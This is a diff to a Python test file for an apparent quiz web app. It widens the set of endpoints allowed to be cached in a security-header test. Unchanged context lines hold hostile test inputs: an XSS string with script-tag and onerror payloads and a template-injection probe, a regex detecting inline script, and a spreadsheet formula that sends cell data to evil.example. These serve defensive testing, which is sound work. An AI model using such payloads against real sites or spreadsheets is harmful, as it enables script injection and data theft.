@@ -31,6 +31,8 @@ from tests.quiz_app.test_authorisation import apart, routes, state  # noqa: F401
 from tests.server import wait_for_a_fresh_minute
 
 HOSTILE = """<script>evil()</script>"'><img src=x onerror=evil()>{{7*7}}"""
+# What a browser may keep: no secret, and images that the researcher who sees them may see again.
+KEPT = ("static", "researcher.picture", "researcher.thumbnail", "researcher.whole_image")
 INLINE = re.compile(r"<script(?![^>]*\bsrc=)[^>]*>|<style|\sstyle=|\son[a-z]+=[\"']|javascript:")
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"result")'
 
@@ -71,7 +73,7 @@ def test_every_answer_carries_what_keeps_it_from_being_framed_sniffed_or_made_to
         assert response.headers["X-Content-Type-Options"] == "nosniff", endpoint
         assert response.headers["Referrer-Policy"] == "no-referrer", endpoint
         kept = response.headers.get("Cache-Control")
-        assert kept == "no-store" or endpoint in ("static", "researcher.thumbnail"), (endpoint, kept)
+        assert kept == "no-store" or endpoint in KEPT, (endpoint, kept)
 
 
 def test_no_page_has_code_or_style_within_it(app, owner, everything_there):
